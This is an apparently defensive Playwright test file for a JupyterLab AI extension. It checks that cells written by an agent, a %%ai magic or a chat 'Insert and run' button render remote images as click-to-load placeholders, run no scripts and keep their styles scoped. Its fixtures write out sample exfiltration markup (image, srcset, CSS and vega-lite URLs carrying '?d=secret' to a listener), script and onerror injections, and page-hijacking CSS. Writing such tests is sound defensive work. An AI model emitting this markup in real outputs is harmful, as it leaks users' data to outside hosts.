/**
 * Outputs of cells the model wrote load nothing from another host when they render, approved
 * or not: an agent step, a `%%ai` generated cell and a chat "Insert and run" cell whose
 * outputs name remote images in Markdown, HTML and CSS make no request to a loopback
 * listener; each image is a placeholder naming its host, and a click loads exactly that one.
 * Their scripts do not run and their styles stay inside the output. The user's own cell
 * renders as JupyterLab always does.
 */

import { Locator } from '@playwright/test';

import {
  agentCells,
  openAgent,
  resetAgentSettings,
  runCode
} from './agent-helpers';
import { ExfilServer, foreignRequests, settle } from './exfil';
import {
  ask,
  askAndWait,
  chatAnswers,
  chatNotebook,
  expect,
  fenced,
  Lab,
  model,
  openChat,
  test
} from './fixtures';

/** This spec's listener ports, apart from trust.spec's. */
const EXFIL_PORTS = [18931, 18932, 18933, 18934, 18935];

/** Python that shows remote images in every form the gate knows, from `host`. */
function remoteOutputs(host: string): string {
  return [
    'from IPython.display import HTML, Markdown, display',
    `H = '${host}'`,
    "display(Markdown(f'A chart: ![chart](//{H}/md.png?d=secret)'))",
    "display(HTML(f'''<p>In HTML:</p>",
    '<img alt="plain" src="http://{H}/img.png?d=secret">',
    '<img alt="srcset" srcset="//{H}/srcset.png 2x">',
    '<table background="//{H}/table.png"><tr><td>a table</td></tr></table>',
    '<input type="image" alt="input" src="//{H}/input.png">',
    '<svg width="60" height="20"><image href="//{H}/svg.png" width="60" height="20"/></svg>',
    '<style>@import url(//{H}/import.css); .gate-rule {{ background-image: url(//{H}/rule.png); }}</style>',
    '<div class="gate-rule" style="background: url(//{H}/inline.png); width: 80px; height: 20px">styled</div>',
    "'''))",
    "print('shown')"
  ].join('\n');
}

/** The paths the output above names, one placeholder each. */
const REMOTE_PATHS = [
  '/md.png?d=secret',
  '/img.png?d=secret',
  '/srcset.png',
  '/table.png',
  '/input.png',
  '/svg.png',
  '/import.css',
  '/rule.png',
  '/inline.png'
];

/** A one-cell notebook (`first`), opened with its editor focused. */
async function gateNotebook(lab: Lab, name: string): Promise<string> {
  const file = await chatNotebook(name, [{ id: 'first', source: 'x = 0' }]);
  await lab.openNotebook(file);
  await lab.focusEditor(file, 'first');
  return file;
}

/** The output area of a cell, scrolled into view, once the page had time to fetch. */
async function shownOutputs(
  lab: Lab,
  file: string,
  id: string
): Promise<Locator> {
  const outputs = (await lab.cellLocator(file, id)).locator('.jp-OutputArea');
  await outputs.scrollIntoViewIfNeeded();
  await settle(lab.page);
  await outputs.evaluate(node => node.scrollIntoView({ block: 'end' }));
  await settle(lab.page);
  return outputs;
}

/** Every placeholder of a gated output names the listener; one per remote address. */
async function expectPlaceholders(outputs: Locator, exfil: ExfilServer) {
  const host = exfil.host.replace(/\./g, '\\.');
  const loads = outputs.getByRole('button', {
    name: new RegExp(`^Load .+ from ${host}$`)
  });
  await expect(loads).toHaveCount(REMOTE_PATHS.length);
  const titles = await loads.evaluateAll(buttons =>
    buttons.map(b => b.getAttribute('title') ?? '')
  );
  for (const path of REMOTE_PATHS) {
    expect(titles.some(title => title.endsWith(`${exfil.host}${path}`))).toBe(
      true
    );
  }
  await expect(
    outputs.getByRole('button', { name: `Load image from ${exfil.host}` })
  ).toHaveCount(REMOTE_PATHS.length - 1);
  await expect(
    outputs.getByRole('button', { name: `Load stylesheet from ${exfil.host}` })
  ).toHaveCount(1);
}

/** Run `body` with a listener and a log of the page's foreign requests. */
async function withExfil(
  lab: Lab,
  body: (exfil: ExfilServer, seen: string[]) => Promise<void>
): Promise<void> {
  const exfil = new ExfilServer(EXFIL_PORTS);
  await exfil.start();
  try {
    await body(exfil, foreignRequests(lab.page));
  } finally {
    await exfil.stop();
  }
}

async function setTheme(lab: Lab, theme: string): Promise<void> {
  await lab.page.evaluate(
    theme =>
      (window as any).jupyterapp.commands.execute('apputils:change-theme', {
        theme
      }),
    theme
  );
  await expect(lab.page.locator('body')).toHaveAttribute(
    'data-jp-theme-name',
    theme
  );
}

test.afterEach(resetAgentSettings);

test('an agent step shows remote images as placeholders, before and after approval; a click loads exactly one', async ({
  lab
}) => {
  await withExfil(lab, async (exfil, seen) => {
    const code = remoteOutputs(exfil.host);
    await model.script(runCode(code, 'Show the chart'), 'Done.');
    const file = await gateNotebook(lab, 'gate-agent');
    const panel = await openAgent(lab, 'Ask before every run');
    await ask(panel, 'Show me the chart');

    const answer = chatAnswers(panel);
    const approve = answer.getByRole('group', { name: 'Approve the step' });
    await expect(approve).toBeVisible({ timeout: 60_000 });
    await settle(lab.page);
    expect(exfil.requests).toEqual([]);

    await approve.getByRole('button', { name: 'Run' }).click();
    await expect(answer).toContainText('Done.', { timeout: 60_000 });
    const cells = await lab.waitForCells(
      file,
      cells =>
        agentCells(cells)[0]?.outputs.some(o => o.text.includes('shown')) ??
        false,
      'the agent step ran'
    );
    const step = agentCells(cells)[0];
    expect(step.chapyter).toMatchObject({ role: 'generated', source: 'agent' });
    const outputs = await shownOutputs(lab, file, step.id);

    // The figure of this test: requests to the listener while the step rendered.
    console.log(
      `agent step: ${exfil.requests.length} requests to the listener, ${seen.length} to other hosts`
    );
    test.info().annotations.push({
      type: 'requests on render (agent step)',
      description: String(exfil.requests.length + seen.length)
    });
    expect(exfil.requests).toEqual([]);
    expect(seen).toEqual([]);
    await expectPlaceholders(outputs, exfil);
    // What is local renders: the text, the table, the scoped style's local part.
    await expect(outputs).toContainText('a table');
    await expect(outputs).toContainText('shown');
    await lab.screenshot('gate-01-agent-step-light', outputs);
    await setTheme(lab, 'JupyterLab Dark');
    await lab.screenshot('gate-02-agent-step-dark', outputs);
    await setTheme(lab, 'JupyterLab Light');

    // One click from the keyboard: one request, to exactly that address.
    const load = outputs.getByRole('button', {
      name: `Load image from ${exfil.host}`
    });
    const plain = load.and(
      outputs.locator(`[title="Fetch http://${exfil.host}/img.png?d=secret"]`)
    );
    await plain.focus();
    await lab.page.keyboard.press('Enter');
    const loaded = outputs.locator(
      `img[src="http://${exfil.host}/img.png?d=secret"]`
    );
    await expect
      .poll(() => loaded.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(0);
    await settle(lab.page);
    expect(exfil.requests).toEqual(['/img.png?d=secret']);
    await expect(load).toHaveCount(REMOTE_PATHS.length - 2);

    // A CSS background comes back the same way: one request, that one.
    await outputs.locator(`[title="Fetch //${exfil.host}/inline.png"]`).click();
    await expect.poll(() => exfil.requests.length, { timeout: 10_000 }).toBe(2);
    await settle(lab.page);
    expect(exfil.requests).toEqual(['/img.png?d=secret', '/inline.png']);
    await lab.screenshot('gate-03-agent-step-loaded', outputs);
  });
});

test('a %%ai cell and a chat "Insert and run" cell are gated too; their scripts do not run and their styles stay inside', async ({
  lab
}) => {
  await withExfil(lab, async (exfil, seen) => {
    const hostile = [
      remoteOutputs(exfil.host),
      'from IPython.display import Javascript',
      'display(HTML(\'<script>window.__pwned = 1</script><img src="x.png" onerror="window.__pwned = 2">\'))',
      "display(Javascript('window.__pwned = 3'))",
      "display(HTML('<style>.jp-NotebookPanel-toolbar { display: none !important } body { background: red }</style>' +",
      '             \'<p class="gate-mine">scoped</p><style>.gate-mine { font-weight: 700 }</style>\'))',
      "display({'application/vnd.vegalite.v5+json': {'data': {'url': f'http://{H}/cars.json'}, 'mark': 'point'}, 'text/plain': 'a chart'}, raw=True)"
    ].join('\n');
    await model.script(fenced(hostile));
    const file = await lab.aiNotebook('gate-magic', [
      { id: 'prompt', source: '%%ai\nshow the chart' }
    ]);
    await lab.runCell(file, 'prompt');
    const { below } = await lab.waitForPair(
      file,
      ({ below }) =>
        !!below?.chapyter &&
        below.outputs.some(o => o.text.includes('shown')) &&
        below.outputs.length >= 6,
      'the generated cell ran'
    );
    expect(below!.chapyter).toMatchObject({
      role: 'generated',
      source: 'magic'
    });
    const outputs = await shownOutputs(lab, file, below!.id);
    test.info().annotations.push({
      type: 'requests on render (%%ai cell)',
      description: String(exfil.requests.length + seen.length)
    });
    expect(exfil.requests).toEqual([]);
    expect(seen).toEqual([]);
    await expectPlaceholders(outputs, exfil);

    // No script ran: not the <script>, not the handler, not the JavaScript output.
    expect(
      await lab.page.evaluate(() => (window as any).__pwned)
    ).toBeUndefined();
    await expect(
      outputs.getByRole('note').filter({ hasText: 'did not run' })
    ).toHaveCount(2);
    // The output's styles apply inside it only: the toolbar and the page are untouched.
    const toolbar = lab.page.locator('.jp-NotebookPanel-toolbar').first();
    await expect(toolbar).toBeVisible();
    expect(
      await lab.page.evaluate(
        () => getComputedStyle(document.body).backgroundColor
      )
    ).not.toBe('rgb(255, 0, 0)');
    await expect(outputs.locator('.gate-mine')).toHaveCSS('font-weight', '700');
    // A renderer that may fetch (vega-lite: its data.url) waits for a click naming the host.
    await expect(
      outputs.getByRole('button', {
        name: `Render (may load from ${exfil.host})`
      })
    ).toHaveCount(1);
    await lab.screenshot('gate-04-magic-cell', outputs);

    // The chat's "Insert and run": the same.
    await model.script('Here it is:\n\n' + fenced(remoteOutputs(exfil.host)));
    const chat = await openChat(lab);
    await askAndWait(chat, 'Show it again');
    await chatAnswers(chat)
      .getByRole('button', { name: 'Insert and run' })
      .click();
    const cells = await lab.waitForCells(
      file,
      cells =>
        cells.some(
          c =>
            c.chapyter?.source === 'chat' &&
            c.outputs.some(o => o.text.includes('shown'))
        ),
      'the chat cell ran'
    );
    const inserted = cells.find(c => c.chapyter?.source === 'chat')!;
    const chatOutputs = await shownOutputs(lab, file, inserted.id);
    test.info().annotations.push({
      type: 'requests on render (chat cell)',
      description: String(exfil.requests.length + seen.length)
    });
    expect(exfil.requests).toEqual([]);
    expect(seen).toEqual([]);
    await expectPlaceholders(chatOutputs, exfil);
    await lab.screenshot('gate-05-chat-cell', chatOutputs);
  });
});

test("the user's own cell renders remote images and scripts as JupyterLab does", async ({
  lab
}) => {
  await withExfil(lab, async exfil => {
    const file = await gateNotebook(lab, 'gate-own');
    await lab.setSource(
      file,
      'first',
      'from IPython.display import HTML, display\n' +
        `display(HTML('<img alt="own" src="http://${exfil.host}/own.png"><script>window.__own = 1</script>'))`
    );
    await lab.runCell(file, 'first');
    const outputs = (await lab.cellLocator(file, 'first')).locator(
      '.jp-OutputArea'
    );
    const image = outputs.locator(`img[src="http://${exfil.host}/own.png"]`);
    await expect
      .poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(0);
    expect(exfil.requests).toEqual(['/own.png']);
    expect(await lab.page.evaluate(() => (window as any).__own)).toBe(1);
    await expect(outputs.locator('.jp-Chapyter-imagePlaceholder')).toHaveCount(
      0
    );
    await lab.screenshot('gate-06-own-cell', outputs);
  });
});
